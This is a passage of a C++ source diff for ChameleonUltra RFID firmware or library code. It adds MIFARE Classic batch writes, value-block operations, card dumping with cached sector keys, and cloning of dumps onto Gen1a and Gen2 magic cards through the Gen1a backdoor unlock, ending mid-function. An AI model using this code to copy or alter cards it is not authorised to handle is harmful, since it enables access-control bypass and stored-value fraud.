-    if (cmdResponse.dataSize < 1 || cmdResponse.data[0] != 0x0A) return false;
+    RawFrame script[2] = {
+        rawFrame(gen1aWakeup, 1, RAW_EXPECT_ACK, false, 7),
+        rawFrame(gen1aUnlock, 1, RAW_EXPECT_ACK, false),
+    };
 
-    return true;
+    return runRawScript(script, 2);
 }
 
 
 bool ChameleonUltra::cmdMfGen1aWriteBlock(uint8_t block, uint8_t *data, size_t length) {
+    CHM_ALLOC_AUDIT("cmdMfGen1aWriteBlock");
     if (length != 16) return false;
 
-    Serial.println("Write Mifare Gen1a block " + String(block));
-
-    ChameleonUltra::RawOptions opt;
-    opt.appendCrc = true;
-    opt.keepRfField = true;
-    opt.waitResponse = true;
+    Serial.print("Write Mifare Gen1a block ");
+    Serial.println(block);
 
     uint8_t cmd[2] = {0xA0, block};
+    RawFrame script[2] = {
+        rawFrame(cmd, sizeof(cmd), RAW_EXPECT_ACK, true),
+        rawFrame(data, length, RAW_EXPECT_ACK, true),
+    };
 
-    if (!cmd14aRaw(opt, 1, cmd, sizeof(cmd))) return false;
-    if (cmdResponse.dataSize < 1 || cmdResponse.data[0] != 0x0A) return false;
-
-    if (!cmd14aRaw(opt, 1, data, length)) return false;
-    if (cmdResponse.dataSize < 1 || cmdResponse.data[0] != 0x0A) return false;
-
-    return true;
+    return runRawScript(script, 2);
 }
 
 
 bool ChameleonUltra::cmdMfGen1aReadBlock(uint8_t block) {
-    Serial.println("Read Mifare Gen1a block " + String(block));
+    CHM_ALLOC_AUDIT("cmdMfGen1aReadBlock");
+    Serial.print("Read Mifare Gen1a block ");
+    Serial.println(block);
 
     ChameleonUltra::RawOptions opt;
     opt.appendCrc = true;
@@ -789,21 +1863,1560 @@ bool ChameleonUltra::cmdMfGen1aReadBlock(uint8_t block) {
 
 
 bool ChameleonUltra::cmdMfSetUid(byte *uid, size_t length) {
-    if (!cmdMfReadBlock(0, mifareKey)) return false;
+    if (length + 1 > 16) return false;
+    if (!cmdMfReadBlock(0, mifareKey) || cmdResponse.dataSize != 16) return false;
 
-    uint8_t blockData[cmdResponse.dataSize];
-    memcpy(blockData, cmdResponse.data, cmdResponse.dataSize);
+    uint8_t blockData[16];
+    memcpy(blockData, cmdResponse.data, sizeof(blockData));
     memcpy(blockData, uid, length);
+    blockData[length] = bcc(uid, length);
+
+    Serial.println("Mifare Gen1a set UID");
+
+    // HALT, unlock and write block 0 in a single round of frames
+    uint8_t writeCmd[2] = {0xA0, 0x00};
+    RawFrame script[6] = {
+        rawFrame(mfHalt, sizeof(mfHalt), RAW_EXPECT_NONE, true),
+        rawFrame(gen1aWakeup, 1, RAW_EXPECT_ACK, false, 7),
+        rawFrame(gen1aUnlock, 1, RAW_EXPECT_ACK, false),
+        rawFrame(writeCmd, sizeof(writeCmd), RAW_EXPECT_ACK, true),
+        rawFrame(blockData, sizeof(blockData), RAW_EXPECT_ACK, true),
+        rawFrame(mfHalt, sizeof(mfHalt), RAW_EXPECT_NONE, true),
+    };
+    script[0].options.keepRfField = false;
+    script[0].options.waitResponse = false;
+    script[5].options.keepRfField = false;
+    script[5].options.waitResponse = false;
+
+    return runRawScript(script, 6);
+}
 
-    byte bcc = 0;
-    for (byte i = 0; i < length; i++) bcc = bcc ^ uid[i];
-    blockData[length] = bcc;
 
-    cmdMfHalt();
+/////////////////////////////////////////////////////////////////////////////////////
+// Batch write
+/////////////////////////////////////////////////////////////////////////////////////
+#define MF_MAX_BLOCKS 256
+#define MF_MAX_SECTORS 40
 
-    bool success = cmdMfGen1aAuth() && cmdMfGen1aWriteBlock(0, blockData, sizeof(blockData));
+static uint8_t mfBlockToSector(uint8_t block) {
+    return block < 128 ? block / 4 : 32 + (block - 128) / 16;
+}
 
-    cmdMfHalt();
 
-    return success;
+static uint8_t mfSectorToBlock(uint8_t sector) {
+    return sector < 32 ? sector * 4 : 128 + (sector - 32) * 16;
+}
+
+
+static bool isTrailerBlock(uint16_t block) {
+    return block < 128 ? (block & 3) == 3 : (block & 15) == 15;
+}
+
+
+static uint16_t trailerOf(uint16_t block) {
+    return block < 128 ? block | 3 : block | 15;
+}
+
+
+// Key A never reads back and key B only when the access bits allow it
+static bool authReadMatches(uint8_t block, const uint8_t *read, const uint8_t *expected) {
+    if (!isTrailerBlock(block)) return memcmp(read, expected, 16) == 0;
+    if (memcmp(read + 6, expected + 6, 4) != 0) return false;
+
+    static const uint8_t hidden[6] = {};
+    return memcmp(read + 10, hidden, 6) == 0 || memcmp(read + 10, expected + 10, 6) == 0;
+}
+
+
+static const uint8_t *sectorKey(const ChameleonUltra::MfSectorKeys &keys, ChameleonUltra::MfKeyType type) {
+    if (type == ChameleonUltra::MF_KEY_A) return keys.hasKeyA ? keys.keyA : nullptr;
+    return keys.hasKeyB ? keys.keyB : nullptr;
+}
+
+
+// Anything but MF_KEY_B means key A, a zeroed MfSectorKeys included
+static ChameleonUltra::MfKeyType preferredType(const ChameleonUltra::MfSectorKeys &keys) {
+    return keys.preferred == ChameleonUltra::MF_KEY_B ? ChameleonUltra::MF_KEY_B : ChameleonUltra::MF_KEY_A;
+}
+
+
+static ChameleonUltra::MfKeyType otherType(ChameleonUltra::MfKeyType type) {
+    return type == ChameleonUltra::MF_KEY_A ? ChameleonUltra::MF_KEY_B : ChameleonUltra::MF_KEY_A;
+}
+
+
+// Length of the run of order[start..] in the same sector, up to 16 blocks
+static size_t sectorRun(const ChameleonUltra::MfBlockImage *images, const uint16_t *order, size_t start, size_t count) {
+    uint8_t sector = mfBlockToSector(images[order[start]].block);
+    size_t size = 1;
+    while (start + size < count && size < 16 && mfBlockToSector(images[order[start + size]].block) == sector) size++;
+    return size;
+}
+
+
+typedef struct {
+    size_t failed;
+    uint8_t status;
+    const ChameleonUltra::MfBlockImage *images;
+    const uint16_t *order;
+} BatchCtx;
+
+static bool batchWriteHandler(ChameleonUltra *chm, size_t index, bool success, void *ctx) {
+    BatchCtx *c = (BatchCtx *)ctx;
+    if (success) return true;
+
+    c->failed = index;
+    c->status = chm->cmdResponse.status;
+    return false;
+}
+
+
+static bool batchVerifyHandler(ChameleonUltra *chm, size_t index, bool success, void *ctx) {
+    BatchCtx *c = (BatchCtx *)ctx;
+    const ChameleonUltra::MfBlockImage &image = c->images[c->order[index]];
+    const ChameleonUltra::CmdResponse &rsp = chm->cmdResponse;
+
+    if (success && rsp.dataSize >= 16 && authReadMatches(image.block, rsp.data, image.data)) return true;
+
+    c->failed = index;
+    c->status = rsp.status;
+    return false;
+}
+
+
+bool ChameleonUltra::mfWriteBlocks(
+    const MfBlockImage *images, size_t count, const MfSectorKeys *keys,
+    bool verify, int16_t *failedBlock
+) {
+    if (failedBlock) *failedBlock = -1;
+    if (count == 0) return true;
+    if (count > MF_MAX_BLOCKS) return false;
+
+    MfSectorKeys cachedKeys[MF_MAX_SECTORS];
+    if (!keys) {
+        mfLoadSectorKeys(cachedKeys);
+        keys = cachedKeys;
+    }
+
+    Serial.printf("Write %u Mifare blocks\n", (unsigned)count);
+
+    // Sector by sector, trailers last since they may change the keys of
+    // their sector
+    uint16_t order[MF_MAX_BLOCKS];
+    size_t ordered = 0;
+    for (uint8_t sector = 0; sector < MF_MAX_SECTORS; sector++) {
+        for (int pass = 0; pass < 2; pass++) {
+            for (size_t i = 0; i < count; i++) {
+                if (mfBlockToSector(images[i].block) != sector) continue;
+                if (isTrailerBlock(images[i].block) == (pass == 1)) order[ordered++] = i;
+            }
+        }
+    }
+
+    MfKeyType sectorType[MF_MAX_SECTORS];
+    bool fallback[MF_MAX_SECTORS] = {};
+    for (size_t i = 0; i < count; i++) {
+        uint8_t sector = mfBlockToSector(images[i].block);
+        const MfSectorKeys &k = keys[sector];
+        sectorType[sector] = sectorKey(k, preferredType(k)) ? preferredType(k) : otherType(preferredType(k));
+        if (!sectorKey(k, sectorType[sector])) {
+            if (failedBlock) *failedBlock = images[i].block;
+            return false;
+        }
+    }
+
+    bool ok = true;
+
+    for (size_t run = 0; ok && run < count; ) {
+        size_t size = sectorRun(images, order, run, count);
+        uint8_t sector = mfBlockToSector(images[order[run]].block);
+        uint8_t cmds[16][24];
+        CmdRequest requests[16];
+
+        for (size_t i = 0; i < size; i++) {
+            const MfBlockImage &image = images[order[run + i]];
+            cmds[i][0] = sectorType[sector];
+            cmds[i][1] = image.block;
+            memcpy(cmds[i] + 2, sectorKey(keys[sector], sectorType[sector]), 6);
+            memcpy(cmds[i] + 8, image.data, 16);
+            requests[i] = {MF1_WRITE_ONE_BLOCK, cmds[i], 24};
+        }
+
+        BatchCtx ctx = {SIZE_MAX, 0, images, order + run};
+        size_t start = 0;
+        ok = false;
+
+        while (start < size) {
+            ctx.failed = SIZE_MAX;
+            if (runPipeline(requests + start, size - start, batchWriteHandler, &ctx)) {
+                ok = true;
+                break;
+            }
+            if (ctx.failed == SIZE_MAX) break;
+
+            size_t index = start + ctx.failed;
+            MfKeyType other = otherType(sectorType[sector]);
+
+            if (ctx.status != MF_ERR_AUTH || fallback[sector] || !sectorKey(keys[sector], other)) {
+                if (failedBlock) *failedBlock = images[order[run + index]].block;
+                break;
+            }
+
+            // Retry the rest of the sector with the other key
+            fallback[sector] = true;
+            sectorType[sector] = other;
+            for (size_t i = index; i < size; i++) {
+                cmds[i][0] = other;
+                memcpy(cmds[i] + 2, sectorKey(keys[sector], other), 6);
+            }
+            start = index;
+        }
+        run += size;
+    }
+
+    for (size_t run = 0; ok && verify && run < count; ) {
+        size_t size = sectorRun(images, order, run, count);
+        uint8_t sector = mfBlockToSector(images[order[run]].block);
+        const uint8_t *key = sectorKey(keys[sector], sectorType[sector]);
+        uint8_t cmds[16][8];
+        CmdRequest requests[16];
+
+        // A written trailer brings its own keys
+        for (size_t j = 0; j < count; j++) {
+            if (images[j].block != trailerOf(images[order[run]].block)) continue;
+            key = images[j].data + (sectorType[sector] == MF_KEY_A ? 0 : 10);
+        }
+
+        for (size_t i = 0; i < size; i++) {
+            cmds[i][0] = sectorType[sector];
+            cmds[i][1] = images[order[run + i]].block;
+            memcpy(cmds[i] + 2, key, 6);
+            requests[i] = {MF1_READ_ONE_BLOCK, cmds[i], 8};
+        }
+
+        BatchCtx ctx = {SIZE_MAX, 0, images, order + run};
+        ok = runPipeline(requests, size, batchVerifyHandler, &ctx);
+        if (!ok && failedBlock && ctx.failed != SIZE_MAX) *failedBlock = images[order[run + ctx.failed]].block;
+        run += size;
+    }
+
+    // Written trailers replace the cached keys of their sector
+    for (size_t i = 0; ok && i < count; i++) {
+        if (!isTrailerBlock(images[i].block)) continue;
+        mfCacheKey(images[i].block, MF_KEY_A, images[i].data);
+        mfCacheKey(images[i].block, MF_KEY_B, images[i].data + 10);
+    }
+
+    return ok;
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Value blocks
+/////////////////////////////////////////////////////////////////////////////////////
+#define VALUE_READ_GROUP 16
+
+void ChameleonUltra::mfValueEncode(int32_t value, uint8_t addr, uint8_t block[16]) {
+    uint32_t v = value;
+    for (int i = 0; i < 4; i++) {
+        block[i] = v >> (8 * i);
+        block[4 + i] = ~block[i];
+        block[8 + i] = block[i];
+    }
+    block[12] = addr;
+    block[13] = ~addr;
+    block[14] = addr;
+    block[15] = ~addr;
+}
+
+
+bool ChameleonUltra::mfValueDecode(const uint8_t block[16], int32_t &value, uint8_t *addr) {
+    for (int i = 0; i < 4; i++) {
+        if (block[i] != block[8 + i] || block[i] != (uint8_t)~block[4 + i]) return false;
+    }
+    if (block[12] != block[14] || block[13] != block[15] || block[12] != (uint8_t)~block[13]) return false;
+
+    value = (int32_t)(block[0] | block[1] << 8 | block[2] << 16 | (uint32_t)block[3] << 24);
+    if (addr) *addr = block[12];
+    return true;
+}
+
+
+bool ChameleonUltra::cmdMfValueRead(uint8_t block, uint8_t *key, int32_t &value, MfKeyType type) {
+    if (!cmdMfReadBlock(block, key, type) || cmdResponse.dataSize < 16) return false;
+    if (mfValueDecode(cmdResponse.data, value)) return true;
+
+    Serial.println("Not a value block");
+    return false;
+}
+
+
+bool ChameleonUltra::cmdMfValueWrite(uint8_t block, uint8_t *key, int32_t value, MfKeyType type) {
+    uint8_t data[16];
+    mfValueEncode(value, block, data);
+
+    return cmdMfWriteBlock(block, key, data, sizeof(data), type);
+}
+
+
+static size_t encodeValueOp(const ChameleonUltra::MfValueOp &op, const uint8_t *defaultKey, uint8_t *out) {
+    const uint8_t *key = op.key ? op.key : defaultKey;
+    const uint8_t *dstKey = op.dstKey ? op.dstKey : key;
+    uint32_t operand = op.operand;
+
+    out[0] = op.type;
+    out[1] = op.block;
+    memcpy(out+2, key, 6);
+    out[8] = op.op;
+    out[9] = operand >> 24;
+    out[10] = operand >> 16;
+    out[11] = operand >> 8;
+    out[12] = operand;
+    out[13] = op.dstType;
+    out[14] = op.dstBlock;
+    memcpy(out+15, dstKey, 6);
+
+    return 21;
+}
+
+
+bool ChameleonUltra::cmdMfValueOperate(const MfValueOp &op) {
+    CHM_ALLOC_AUDIT("cmdMfValueOperate");
+    uint8_t cmd[21];
+    size_t size = encodeValueOp(op, mifareKey, cmd);
+
+    return exchange(MF1_MANIPULATE_VALUE_BLOCK, cmd, size);
+}
+
+
+typedef struct {
+    const uint8_t *blocks;  // block of each read
+    int32_t *values;        // indexed by block
+    uint8_t *valid;         // bitmap, set when values holds the block
+} ValueReadCtx;
+
+static bool valueReadHandler(ChameleonUltra *chm, size_t index, bool success, void *ctx) {
+    ValueReadCtx *c = (ValueReadCtx *)ctx;
+    uint8_t block = c->blocks[index];
+    const ChameleonUltra::CmdResponse &rsp = chm->cmdResponse;
+
+    if (!success || rsp.dataSize < 16 || !ChameleonUltra::mfValueDecode(rsp.data, c->values[block])) return false;
+
+    c->valid[block / 8] |= 1 << (block % 8);
+    return true;
+}
+
+
+// Reads the value of every block once, dst picks the destination block of
+// each operation instead of its source. Sources written by an earlier
+// operation of the batch are skipped.
+static bool readValues(
+    ChameleonUltra *chm, const ChameleonUltra::MfValueOp *ops, size_t count, bool dst,
+    int32_t *values, uint8_t *valid
+) {
+    uint8_t wanted[MF_MAX_BLOCKS / 8] = {};
+    uint8_t written[MF_MAX_BLOCKS / 8] = {};
+    uint8_t blocks[VALUE_READ_GROUP];
+    uint8_t cmds[VALUE_READ_GROUP][8];
+    ChameleonUltra::CmdRequest requests[VALUE_READ_GROUP];
+    ValueReadCtx ctx = {blocks, values, valid};
+    size_t pending = 0;
+
+    for (size_t i = 0; i < count; i++) {
+        const ChameleonUltra::MfValueOp &op = ops[i];
+        uint8_t block = dst ? op.dstBlock : op.block;
+        bool skip = (wanted[block / 8] | written[block / 8]) >> (block % 8) & 1;
+        written[op.dstBlock / 8] |= 1 << (op.dstBlock % 8);
+        if (skip) continue;
+        wanted[block / 8] |= 1 << (block % 8);
+
+        const uint8_t *key = op.key ? op.key : chm->mifareKey;
+        if (dst && op.dstKey) key = op.dstKey;
+
+        blocks[pending] = block;
+        cmds[pending][0] = dst ? op.dstType : op.type;
+        cmds[pending][1] = block;
+        memcpy(cmds[pending] + 2, key, 6);
+        requests[pending] = {ChameleonUltra::MF1_READ_ONE_BLOCK, cmds[pending], 8};
+
+        if (++pending == VALUE_READ_GROUP) {
+            if (!chm->runPipeline(requests, pending, valueReadHandler, &ctx)) return false;
+            pending = 0;
+        }
+    }
+
+    return pending == 0 || chm->runPipeline(requests, pending, valueReadHandler, &ctx);
+}
+
+
+bool ChameleonUltra::mfValueBatch(const MfValueOp *ops, size_t count, bool verify, size_t *completed) {
+    if (completed) *completed = 0;
+
+    Serial.printf("%u value operations\n", (unsigned)count);
+
+    // Expected value of every block the batch touches
+    int32_t values[MF_MAX_BLOCKS];
+    uint8_t valid[MF_MAX_BLOCKS / 8] = {};
+
+    if (verify && !readValues(this, ops, count, false, values, valid)) {
+        Serial.println("Invalid source value block");
+        return false;
+    }
+
+    for (size_t i = 0; i < count; i++) {
+        const MfValueOp &op = ops[i];
+        uint8_t cmd[21];
+        size_t size = encodeValueOp(op, mifareKey, cmd);
+
+        if (!exchange(MF1_MANIPULATE_VALUE_BLOCK, cmd, size)) {
+            Serial.printf("Value operation %u on block %u failed\n", (unsigned)i, op.block);
+            return false;
+        }
+        if (completed) *completed = i + 1;
+        if (!verify) continue;
+
+        uint32_t value = values[op.block];
+        if (op.op == MF_VALUE_INCREMENT) value += op.operand;
+        else if (op.op == MF_VALUE_DECREMENT) value -= op.operand;
+        values[op.dstBlock] = value;
+    }
+
+    if (!verify) return true;
+
+    // Read back over values, expected keeps the model
+    int32_t expected[MF_MAX_BLOCKS];
+    memcpy(expected, values, sizeof(expected));
+    memset(valid, 0, sizeof(valid));
+    if (!readValues(this, ops, count, true, values, valid)) {
+        Serial.println("Value read back failed");
+        return false;
+    }
+
+    for (size_t i = 0; i < count; i++) {
+        uint8_t block = ops[i].dstBlock;
+        if (values[block] == expected[block]) continue;
+
+        Serial.printf("Block %u holds %d, expected %d\n", block, (int)values[block], (int)expected[block]);
+        return false;
+    }
+
+    return true;
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Dump
+/////////////////////////////////////////////////////////////////////////////////////
+typedef struct {
+    uint8_t data[16][16];
+    bool valid[16];
+    const uint8_t *offsets;  // block offset in the sector of each request
+} DumpCtx;
+
+static bool dumpReadHandler(ChameleonUltra *chm, size_t index, bool success, void *ctx) {
+    DumpCtx *c = (DumpCtx *)ctx;
+    const ChameleonUltra::CmdResponse &rsp = chm->cmdResponse;
+
+    if (success && rsp.dataSize >= 16) {
+        memcpy(c->data[c->offsets[index]], rsp.data, 16);
+        c->valid[c->offsets[index]] = true;
+    }
+    return true;
+}
+
+
+size_t ChameleonUltra::mfDump(TagDumpWriter &writer, Print &out, const MfSectorKeys *keys) {
+    TagType tagType = hfTagData.size > 0 ? identifyTag().tagType : UNDEFINED;
+    uint16_t blocks = TagDump::blockCountOf(tagType);
+    if (blocks == 0 || TagDump::blockSizeOf(tagType) != 16) {
+        Serial.println("Dump needs a MIFARE Classic tag");
+        return 0;
+    }
+
+    MfSectorKeys cachedKeys[MF_MAX_SECTORS];
+    if (!keys) {
+        mfLoadSectorKeys(cachedKeys);
+        keys = cachedKeys;
+    }
+
+    Serial.println("Dump " + String(blocks) + " blocks");
+    if (!writer.begin(out, TagDump::infoOf(hfTagData, tagType))) return 0;
+
+    uint8_t sectors = mfBlockToSector(blocks - 1) + 1;
+    MfSectorKeys found[MF_MAX_SECTORS] = {};
+    size_t read = 0;
+
+    for (uint8_t s = 0; s < sectors; s++) {
+        uint8_t first = mfSectorToBlock(s);
+        uint8_t count = s < 32 ? 4 : 16;
+        const MfSectorKeys &k = keys[s];
+
+        DumpCtx ctx = {};
+        uint8_t offsets[16];
+        uint8_t cmds[16][8];
+        CmdRequest requests[16];
+        ctx.offsets = offsets;
+
+        // Preferred key first, the other one for the blocks it could not read
+        for (int pass = 0; pass < 2; pass++) {
+            MfKeyType type = pass == 0 ? preferredType(k) : otherType(preferredType(k));
+            const uint8_t *key = sectorKey(k, type);
+            if (!key) continue;
+
+            size_t pending = 0;
+            for (uint8_t i = 0; i < count; i++) {
+                if (ctx.valid[i]) continue;
+                offsets[pending] = i;
+                cmds[pending][0] = type;
+                cmds[pending][1] = first + i;
+                memcpy(cmds[pending] + 2, key, 6);
+                requests[pending] = {MF1_READ_ONE_BLOCK, cmds[pending], 8};
+                pending++;
+            }
+            if (pending == 0) break;
+
+            runPipeline(requests, pending, dumpReadHandler, &ctx);
+
+            bool authenticated = false;
+            for (size_t i = 0; i < pending; i++) authenticated |= ctx.valid[offsets[i]];
+            if (!authenticated) continue;
+
+            if (type == MF_KEY_A) {
+                found[s].hasKeyA = true;
+                memcpy(found[s].keyA, key, 6);
+            }
+            else {
+                found[s].hasKeyB = true;
+                memcpy(found[s].keyB, key, 6);
+            }
+            found[s].preferred = found[s].hasKeyA ? MF_KEY_A : MF_KEY_B;
+            mfCacheKey(first, type, key);
+        }
+
+        // Key A never reads back, key B only when the access bits allow it
+        uint8_t *trailer = ctx.data[count - 1];
+        if (ctx.valid[count - 1]) {
+            if (found[s].hasKeyA) memcpy(trailer, found[s].keyA, 6);
+            if (found[s].hasKeyB) memcpy(trailer + 10, found[s].keyB, 6);
+        }
+
+        for (uint8_t i = 0; i < count; i++) {
+            if (!writer.write(first + i, ctx.data[i], ctx.valid[i])) return 0;
+            read += ctx.valid[i];
+        }
+    }
+
+    if (!writer.end(found, sectors)) return 0;
+
+    Serial.println("Read " + String(read) + " of " + String(blocks) + " blocks");
+    return read;
+}
+
+
+bool ChameleonUltra::mfEload(TagDumpReader &reader) {
+    TagDump::Info info = reader.info();
+    if (info.blockSize != 16) return false;
+
+    Serial.println("Upload dump data");
+
+    // Runs of valid blocks go in CHAMELEON_EMU_FRAME chunks, a few in flight
+    const size_t group = 4;
+    uint8_t frames[group][CHAMELEON_EMU_FRAME + 1];
+    CmdRequest requests[group];
+    size_t count = 0;
+    size_t length = 0;
+    size_t frameSize = CHAMELEON_EMU_FRAME;
+
+    uint8_t data[16];
+    uint16_t block;
+    bool valid;
+    bool more = true;
+
+    while (more) {
+        more = reader.read(block, data, valid);
+
+        if (more && valid) {
+            if (length == 0) frames[count][0] = block;
+            memcpy(frames[count] + 1 + length, data, 16);
+            length += 16;
+            if (length + 16 <= frameSize) continue;
+        }
+        if (length == 0) continue;
+
+        requests[count] = {MF1_WRITE_EMU_BLOCK_DATA, frames[count], length + 1};
+        length = 0;
+        if (++count < group && more) continue;
+
+        if (!runPipeline(requests, count)) return false;
+        count = 0;
+    }
+    if (count > 0 && !runPipeline(requests, count)) return false;
+
+    if (info.uidSize == 4 || info.uidSize == 7) {
+        return cmdMfEconfig(info.uid, info.uidSize, info.atqa, info.sak);
+    }
+    return true;
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Key cache
+/////////////////////////////////////////////////////////////////////////////////////
+bool ChameleonUltra::mfCachedKeyCommand(Command cmd, uint8_t *data, size_t length) {
+    MfKeyType type = (MfKeyType)data[0];
+    uint8_t sector = mfBlockToSector(data[1]);
+    bool cached = keyCache && hfTagData.size > 0
+        && keyCache->getKey(MfKeyCache::cardId(hfTagData), sector, type, data+2);
+
+    if (cached) {
+        if (writeCommand(cmd, data, length)) return true;
+        if (cmdResponse.status != MF_ERR_AUTH || memcmp(data+2, mifareKey, 6) == 0) return false;
+    }
+
+    memcpy(data+2, mifareKey, 6);
+    return writeCommand(cmd, data, length);
+}
+
+
+void ChameleonUltra::mfLoadSectorKeys(MfSectorKeys *keys) {
+    bool cached = keyCache && hfTagData.size > 0
+        && keyCache->load(MfKeyCache::cardId(hfTagData), keys);
+
+    for (uint8_t s = 0; s < MF_MAX_SECTORS; s++) {
+        MfSectorKeys &k = keys[s];
+        if (!cached) k = {false, false, {}, {}, MF_KEY_A};
+        if (!k.hasKeyA) memcpy(k.keyA, mifareKey, 6);
+        if (!k.hasKeyB) memcpy(k.keyB, mifareKey, 6);
+        k.hasKeyA = k.hasKeyB = true;
+    }
+}
+
+
+void ChameleonUltra::mfCacheKey(uint8_t block, MfKeyType type, const uint8_t *key) {
+    // mifareKey is tried anyway, an entry for it would only push a card
+    // with recovered keys out of the cache
+    if (!keyCache || hfTagData.size == 0 || memcmp(key, mifareKey, 6) == 0) return;
+    keyCache->putKey(MfKeyCache::cardId(hfTagData), mfBlockToSector(block), type, key);
+}
+
+
+/////////////////////////////////////////////////////////////////////////////////////
+// Magic clone
+/////////////////////////////////////////////////////////////////////////////////////
+#define GEN1A_PREFIX 3
+
+typedef struct {
+    const uint8_t *dump;
+    const uint8_t *blocks;  // block number of each read
+    size_t offset;          // frames before the first read
+    size_t count;
+    uint8_t *mismatch;      // bitmap, nullptr to stop at the first mismatch
+    bool auth;              // read with a key, trailers come back masked
+    const uint8_t *authKey; // key A used, nullptr when taken from the dump
+} CloneCtx;
+
+static bool cloneReadHandler(ChameleonUltra *chm, size_t index, bool success, void *ctx) {
+    CloneCtx *c = (CloneCtx *)ctx;
+    if (index < c->offset || index >= c->offset + c->count) return success;
+
+    const ChameleonUltra::CmdResponse &rsp = chm->cmdResponse;
+    uint8_t block = c->blocks[index - c->offset];
+    const uint8_t *expected = c->dump + block * 16;
+    bool match = success && rsp.dataSize >= 16;
+
+    if (match && c->auth) {
+        match = authReadMatches(block, rsp.data, expected)
+            && (!c->authKey || !isTrailerBlock(block) || memcmp(c->authKey, expected, 6) == 0);
+    } else if (match) {
+        match = memcmp(rsp.data, expected, 16) == 0;
+    }
+
+    if (match) return true;
+    if (!c->mismatch) return false;
+
+    c->mismatch[block / 8] |= 1 << (block % 8);
+    return true;
+}
+
+
+// HALT and field off, then the backdoor unlock
+static void gen1aPrefix(ChameleonUltra::RawFrame *frames) {
+    frames[0] = rawFrame(mfHalt, sizeof(mfHalt), ChameleonUltra::RAW_EXPECT_NONE, true);
+    frames[0].options.keepRfField = false;
+    frames[0].options.waitResponse = false;
+    frames[1] = rawFrame(gen1aWakeup, 1, ChameleonUltra::RAW_EXPECT_ACK, false, 7);
+    frames[2] = rawFrame(gen1aUnlock, 1, ChameleonUltra::RAW_EXPECT_ACK, false);
+}
+
+
+static bool cloneRead(
+    ChameleonUltra *chm, ChameleonUltra::MagicType magic, const uint8_t *dump,
+    const uint8_t *blocks, size_t count, const uint8_t *key, uint8_t *mismatch
+) {
+    CloneCtx ctx = {dump, blocks, 0, count, mismatch, false, nullptr};
+    bool ok;
+
+    if (magic == ChameleonUltra::MAGIC_GEN1A) {
+        ChameleonUltra::RawFrame *frames = new ChameleonUltra::RawFrame[count + GEN1A_PREFIX + 1];
+        uint8_t *cmds = new uint8_t[count * 2];
+
+        gen1aPrefix(frames);
+        for (size_t i = 0; i < count; i++) {
+            cmds[i * 2] = 0x30;
+            cmds[i * 2 + 1] = blocks[i];
+            frames[GEN1A_PREFIX + i] = rawFrame(cmds + i * 2, 2, ChameleonUltra::RAW_EXPECT_NONE, true);
+            frames[GEN1A_PREFIX + i].options.checkResponseCrc = true;
+        }
+        frames[GEN1A_PREFIX + count] = frames[0];
+
+        ctx.offset = GEN1A_PREFIX;
+        ok = chm->runRawScript(frames, count + GEN1A_PREFIX + 1, cloneReadHandler, &ctx);
+
+        delete[] cmds;
+        delete[] frames;
+        return ok;
+    }
+
+    // Gen2 reads with the given key, or the dump key A when key is nullptr
+    ChameleonUltra::CmdRequest *requests = new ChameleonUltra::CmdRequest[count];
+    uint8_t *cmds = new uint8_t[count * 8];
+
+    for (size_t i = 0; i < count; i++) {
+        uint8_t *cmd = cmds + i * 8;
+        cmd[0] = ChameleonUltra::MF_KEY_A;
+        cmd[1] = blocks[i];
+        memcpy(cmd+2, key ? key : dump + trailerOf(blocks[i]) * 16, 6);
+        requests[i] = {ChameleonUltra::MF1_READ_ONE_BLOCK, cmd, 8};
+    }
+
+    ctx.auth = true;
+    ctx.authKey = key;
+    ok = chm->runPipeline(requests, count, cloneReadHandler, &ctx);
+
+    delete[] cmds;
+    delete[] requests;
+    return ok;
+}
+
+
+static bool cloneWrite(
+    ChameleonUltra *chm, ChameleonUltra::MagicType magic, const uint8_t *dump,
+    const uint8_t *blocks, size_t count, const uint8_t *key
+) {
+    bool ok;
+
+    if (magic == ChameleonUltra::MAGIC_GEN1A) {
+        ChameleonUltra::RawFrame *frames = new ChameleonUltra::RawFrame[count * 2 + GEN1A_PREFIX + 1];
+        uint8_t *cmds = new uint8_t[count * 2];
+
+        gen1aPrefix(frames);
+        for (size_t i = 0; i < count; i++) {
+            cmds[i * 2] = 0xA0;
+            cmds[i * 2 + 1] = blocks[i];
+            frames[GEN1A_PREFIX + i * 2] = rawFrame(cmds + i * 2, 2, ChameleonUltra::RAW_EXPECT_ACK, true);
+            frames[GEN1A_PREFIX + i * 2 + 1] = rawFrame(dump + blocks[i] * 16, 16, ChameleonUltra::RAW_EXPECT_ACK, true);
+        }
+        frames[GEN1A_PREFIX + count * 2] = frames[0];
+
+        ok = chm->runRawScript(frames, count * 2 + GEN1A_PREFIX + 1);
+
+        delete[] cmds;
+        delete[] frames;
+        return ok;
+    }
+
+    ChameleonUltra::MfBlockImage *images = new ChameleonUltra::MfBlockImage[count];
+    ChameleonUltra::MfSectorKeys keys[MF_MAX_SECTORS];
+
+    for (size_t i = 0; i < count; i++) images[i] = {blocks[i], dump + blocks[i] * 16};
+    for (size_t i = 0; i < MF_MAX_SECTORS; i++) {
+        keys[i] = {true, false, {}, {}, ChameleonUltra::MF_KEY_A};
+        memcpy(keys[i].keyA, key, 6);
+    }
+
+    ok = chm->mfWriteBlocks(images, count, keys);
+
+    delete[] images;
+    return ok;
+}
+
+
+bool ChameleonUltra::mfCloneMagic(
+    const uint8_t *dump, size_t size, MagicType magic, bool verify,
+    const uint8_t *key, CloneResult *result
+) {
+    size_t blockCount = size / 16;
+    if (size == 0 || size % 16 != 0 || blockCount > MF_MAX_BLOCKS) return false;
+    if (!key) key = mifareKey;
+
+    Serial.println("Clone " + String(blockCount) + " blocks to magic card");
+
+    CloneResult res = {0, 0, false};
+    uint8_t all[MF_MAX_BLOCKS];
+    for (size_t i = 0; i < blockCount; i++) all[i] = i;
+
+    uint8_t mismatch[MF_MAX_BLOCKS / 8] = {};
+    bool ok = cloneRead(this, magic, dump, all, blockCount, key, mismatch);
+
+    // Trailers go last, a new trailer changes the keys for the Gen2 auths
+    uint8_t order[MF_MAX_BLOCKS];
+    size_t count = 0;
+    for (int pass = 0; pass < 2 && ok; pass++) {
+        for (size_t i = 0; i < blockCount; i++) {
+            if (!(mismatch[i / 8] >> (i % 8) & 1)) continue;
+            if (isTrailerBlock(i) == (pass == 1)) order[count++] = i;
+        }
+    }
+
+    res.skipped = blockCount - count;
+    if (ok && count > 0) ok = cloneWrite(this, magic, dump, order, count, key);
